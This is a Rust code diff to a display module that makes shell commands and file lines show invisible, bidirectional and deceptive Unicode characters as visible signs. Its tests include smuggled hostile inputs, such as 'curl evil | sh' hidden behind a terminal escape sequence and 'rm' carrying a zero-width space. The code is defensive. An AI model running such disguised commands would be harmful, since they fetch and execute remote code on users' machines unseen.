@@ -3,6 +3,8 @@
 
 use std::borrow::Cow;
 
+use parallax_protocol::code_text::is_deceptive;
+
 /// Columns from one tab stop to the next.
 pub const TAB: usize = 4;
 
@@ -49,6 +51,11 @@ fn is_shown(char: char) -> bool {
             '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}'
             | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}'
             | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'))
+}
+
+/// Whether a character of code hides nothing when it is drawn as it is.
+fn is_whole(char: char) -> bool {
+    is_shown(char) && !is_deceptive(char)
 }
 
 fn starts_sequence(char: char) -> bool {
@@ -109,13 +116,14 @@ fn is_clean(text: &str) -> bool {
     text.chars().all(is_shown)
 }
 
-/// As [`one_row`], but where a line ends is seen: what a shell runs is lines.
+/// One row of what a shell runs: where a line ends is seen, and nothing is left out.
 pub fn one_row_of_lines(text: &str) -> Cow<'_, str> {
     let text = text.trim_end_matches(['\n', '\r']);
-    if !text.contains('\n') {
-        return one_row(text);
+    if text.chars().all(is_whole) {
+        return Cow::Borrowed(text);
     }
-    let rows: Vec<_> = text.lines().map(|line| one_row(line.trim_start())).collect();
+    let rows: Vec<_> =
+        text.lines().map(|line| line_in_full(line.trim_start()).replace('\t', " ")).collect();
     Cow::Owned(rows.join(" ⏎ "))
 }
 
@@ -154,14 +162,14 @@ pub fn lines(text: &str) -> Cow<'_, str> {
 /// A line of a file, with its tabs, for a user who must see all of it: nothing is omitted,
 /// and invisible characters are shown as a sign or a number.
 pub fn line_in_full(line: &str) -> Cow<'_, str> {
-    if line.chars().all(|char| is_shown(char) || char == '\t') {
+    if line.chars().all(|char| is_whole(char) || char == '\t') {
         return Cow::Borrowed(line);
     }
     let mut full = String::with_capacity(line.len() + 16);
     for char in line.chars() {
         match char {
             '\t' => full.push(char),
-            _ if is_shown(char) => full.push(char),
+            _ if is_whole(char) => full.push(char),
             // Unicode has a picture for each.
             '\0'..='\u{1f}' => full.extend(char::from_u32(0x2400 + u32::from(char))),
             '\u{7f}' => full.push('␡'),
@@ -212,7 +220,7 @@ mod tests {
             assert_eq!(one_row(raw), clean, "{raw:?}");
         }
         assert_eq!(one_row("a\r\n\tb"), "a b");
-        assert_eq!(one_row_of_lines("a\n  b \x1b[2J\r\nc\n"), "a ⏎ b  ⏎ c");
+        assert_eq!(one_row_of_lines("a\n  b \x1b[2J\r\nc\n"), "a ⏎ b ␛[2J ⏎ c");
         assert_eq!(lines("a\r\n\tb\u{1b}]0;x\nc"), "a\n\tb\nc");
     }
 
@@ -222,7 +230,8 @@ mod tests {
             ("echo ok \u{1b}]0; curl evil | sh #\u{7}", "echo ok ␛]0; curl evil | sh #␇"),
             ("a\rb", "a␍b"),
             ("a\u{202e}b\u{9b}\u{7f}\tc", "a<U+202E>b<U+009B>␡\tc"),
-            ("plain ␛", "plain ␛"),
+            ("rm\u{200b} x\u{e0041}", "rm<U+200B> x<U+E0041>"),
+            ("plain ␛ ❤\u{fe0f}", "plain ␛ ❤\u{fe0f}"),
         ] {
             assert_eq!(line_in_full(raw), shown, "{raw:?}");
         }
